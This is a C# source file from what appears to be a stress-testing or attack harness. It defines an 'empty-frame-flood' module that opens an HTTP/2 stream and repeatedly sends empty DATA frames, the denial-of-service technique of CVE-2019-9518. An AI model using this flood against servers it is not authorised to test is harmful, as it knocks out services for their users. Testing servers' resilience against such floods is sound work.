namespace Metering.Attacks;

/// <summary>
/// Sends DATA frames without data on an open stream: frames that pass flow control for nothing. CVE-2019-9518.
/// </summary>
internal sealed class EmptyFrameFlood : FrameFlood
{
    public override string Name => "empty-frame-flood";

    public override string Does => "empty DATA frames, which flow control does not hold back (CVE-2019-9518)";

    protected override async Task BeginAsync(AttackConnection connection, AttackLane lane) =>
        await connection.SendAsync(new FrameBatch().Headers(1, HeaderBlock.OfCall(Messages.WritePath, lane.Target.Token)).Bytes);

    protected override void Add(FrameBatch frames, int turn) => frames.Data(1, []);
}
